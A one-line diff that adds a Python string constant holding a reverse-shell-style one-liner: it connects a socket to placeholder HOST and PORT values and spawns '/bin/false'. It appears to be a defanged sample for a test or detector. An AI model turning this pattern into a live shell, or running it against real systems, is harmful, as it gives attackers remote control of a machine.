@@ -1,0 +1,1 @@
+LINE = "import socket,os,pty;s=socket.socket();s.connect((HOST,PORT));pty.spawn('/bin/false')"
